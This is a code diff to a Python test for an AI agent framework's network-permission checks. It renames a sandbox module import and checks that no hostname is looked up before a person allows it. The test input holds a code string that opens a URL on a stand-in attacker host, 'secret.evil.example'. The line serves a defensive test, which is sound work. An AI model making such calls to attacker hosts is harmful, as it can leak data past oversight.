@@ -18,7 +18,7 @@ from agent_core.net.egress import (
 )
 from agent_core.net.url_allowlist import MOST_OF_PERSON, NamedBy
 from agent_core.permissions import Decision, PermissionRequest
-from agent_core.sandbox.host import network
+from agent_core.sandbox.host import connections
 from agent_core.tools.context import learn_addresses
 from tests.agent_core.agents.test_agent import code
 from tests.conftest import model_of
@@ -373,7 +373,7 @@ async def test_no_name_is_looked_up_before_the_person_allows_it(monkeypatch, ste
         looked_up.append(host)
         return ["127.0.0.1"]
 
-    monkeypatch.setattr(network, "resolve", resolve)
+    monkeypatch.setattr(connections, "resolve", resolve)
     monkeypatch.setattr(site, "_resolve", resolve)
     person = Person("deny")
     connect = "import urllib.request\nurllib.request.urlopen('http://secret.evil.example/')"
